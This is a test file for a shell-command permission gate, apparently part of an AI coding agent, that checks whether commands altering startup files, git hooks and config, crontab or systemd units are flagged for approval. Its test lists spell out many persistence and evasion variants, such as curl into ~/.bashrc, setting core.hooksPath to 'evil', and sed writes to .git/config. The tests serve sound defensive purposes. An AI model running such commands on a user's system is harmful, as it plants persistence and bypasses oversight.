import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createGate, pathGuard, type PermissionRule } from "../src/index.ts";
import { request, signal } from "./requests.ts";

const before = process.env["HOME"];
const home = realpathSync(mkdtempSync(join(tmpdir(), "skein-start-")));
const cwd = join(home, "work");
beforeAll(() => {
  process.env["HOME"] = home;
  for (const folder of ["src", "evil", "dots", "keys", "pictures"])
    mkdirSync(join(cwd, folder), { recursive: true });
  for (const name of [
    "a",
    ".bashrc",
    "src/a.ts",
    "evil/.bashrc",
    "dots/.profile",
    "src/.env",
    "pictures/a.jpeg",
  ])
    writeFileSync(join(cwd, name), "text\n");
  writeFileSync(join(home, ".bashrc"), "text\n");
});
afterAll(() => {
  process.env["HOME"] = before;
  rmSync(home, { recursive: true });
});

async function verdictOf(command: string, mode = "auto", rules: readonly PermissionRule[] = []) {
  const gate = createGate({ mode, rules, guard: pathGuard({ home }), isPlainRepository: () => true });
  return (await gate.decide(request({ input: { command }, cwd }), signal)).verdict;
}

describe("in auto, a file that decides what runs later is asked about", () => {
  it.each([
    "echo x >> ~/.bashrc",
    "echo x >> $HOME/.bashrc",
    'echo x >> "$HOME/.bashrc"',
    "echo x >> ${HOME}/.bashrc",
    "cd && echo x >> .bashrc",
    "cd; echo x >> .bashrc",
    "cd ~ && tee -a .profile < a",
    'cd "$HOME" && cp work/a .zshrc',
    "D=~; echo x >> $D/.bashrc",
    'D=$HOME; cp a "$D/.bashrc"',
    "F=.bashrc; cp a ~/$F",
    "for d in ~ /tmp; do cp a $d/.bashrc; done",
    "echo x > $PWD/.git/hooks/pre-commit",
    "cp .bashrc ~",
    "cp .bashrc ~/",
    "mv .bashrc $HOME",
    "cp -t ~ .bashrc",
    "cp --target-directory=$HOME .bashrc a",
    "install .bashrc ~",
    "ln -sf $PWD/.bashrc ~",
    "cp -r evil/. ~",
    "cp -a evil/ ~",
    "cp dots/.* ~",
    "rsync -a evil/ ~/",
    "tar xf a.tar -C ~",
    "tar -xzf a.tgz --directory=$HOME",
    "cd ~ && tar xf work/a.tar",
    "unzip a.zip -d ~",
    "curl -o ~/.bashrc https://example.com",
    "wget -O ~/.bashrc https://example.com",
    "wget -P ~/.config/autostart https://example.com",
    "sort -o ~/.bashrc a",
    "cd ~ && curl -sO https://example.com/.bashrc",
    "cd ~ && curl --remote-name https://example.com/.bashrc?a=b",
    "cd ~ && wget -q https://example.com/.bashrc",
    "git config core.hooksPath evil",
    "git config --global core.pager evil",
    "git config -f .git/config core.pager evil",
    "git config --add alias.x '!evil'",
    "git config set core.editor evil",
    "git -C . config core.fsmonitor evil",
    "git init --template=evil .",
    "git clone --template evil a b",
    "sed -n 'w .git/hooks/pre-commit' a",
    "sed -n '1,2w.git/config' a",
    "sed 's/x/y/w .git/config' a",
    "sed 's/x/y/gw .git/config' a",
    "awk '{ print > \".git/config\" }' a",
    "awk '{ printf $1 >> \".mcp.json\" }' a",
    "crontab a",
    "crontab -",
    "echo x | crontab",
    "at now < a",
    "systemctl --user enable a.service",
    "systemctl --user link $PWD/a.service",
    "find ~ -name .bashrc -exec sed -i s/a/b/ {} +",
    "find . -type f -exec sed -i s/a/b/ {} +",
    "bash -c 'cp .bashrc $HOME'",
  ])("%s", async (command) => {
    expect(await verdictOf(command)).toBe("ask");
    expect(await verdictOf(command, "auto", [{ tool: "shell", verdict: "allow" }])).toBe("allow");
  });

  it.each([
    'echo x > "$F"',
    "echo x > $(cat a)",
    'cp a "$TARGET"',
    'tee "$1" < a',
    "cp a ~/$NAME",
    'cd "$D" && cp a .bashrc',
    'cd "$D" && echo x > .git/config',
    'echo x > "$D/pre-commit"',
    'cp "$F" ~',
    "cat list | xargs sed -i s/a/b/",
    "x=$(cat a); echo y > $x",
    'read f; echo y > "$f"',
    'for f in a b; do echo $x > "$x"; x=~/.bashrc; done',
  ])("also where it is not known: %s", async (command) => {
    expect(await verdictOf(command)).toBe("ask");
  });

  it("unless a rule allows the very command", async () => {
    const rules: readonly PermissionRule[] = [{ tool: "shell(cp a *)", verdict: "allow" }];
    expect(await verdictOf('cp a "$TARGET"', "auto", rules)).toBe("allow");
    expect(await verdictOf('cp b "$TARGET"', "auto", rules)).toBe("ask");
  });
});

describe("in auto, ordinary writing is not", () => {
  it.each([
    "echo x > a",
    "cp a b",
    "cp -r src dist",
    "mv src/a.ts src/b.ts",
    "mkdir -p dist/a",
    "tar xzf a.tgz",
    "tar xf a.tar -C vendor",
    "unzip a.zip -d vendor",
    "echo x > /tmp/$$.log",
    'echo x > "build/$NAME.txt"',
    "OUT=dist; cp a $OUT/b",
    'OUT=$(mktemp -d); cp a "$OUT/x"',
    'cp a "$OUT/index.html"',
    'for f in pictures/*.jpeg; do mv "$f" "${f%.jpeg}.jpg"; done',
    "for f in src/*.ts; do sed -i s/a/b/ $f; done",
    "find . -name '*.ts' -exec sed -i s/a/b/ {} +",
    "git ls-files '*.ts' | xargs sed -i s/a/b/",
    "grep -rl --include='*.ts' text src | xargs sed -i s/text/b/",
    "git config user.name",
    "git config --get core.editor",
    "git config --list",
    "sed -n 'w out' a",
    "sed 's/how/why/' a > b",
    "awk '{ print > \"out\" }' a",
    "git init",
    "git clone https://example.com/a",
    "crontab -l",
    "at -l",
    "systemctl --user status a",
    "rm -f $X",
    "curl -o a.tgz https://example.com",
    "curl -sL https://example.com -o /tmp/a",
    "cat a | tee b",
    "sort -o a a",
    "touch $x.ts",
    "find . -name '*.pyc' -delete",
    "find . -name '*.pyc' -exec rm {} +",
    'cd src && echo x > "$(date +%F).log"',
    "npm test > /tmp/out-$RANDOM.txt 2>&1",
  ])("%s", async (command) => {
    expect(await verdictOf(command)).toBe("allow");
  });
});
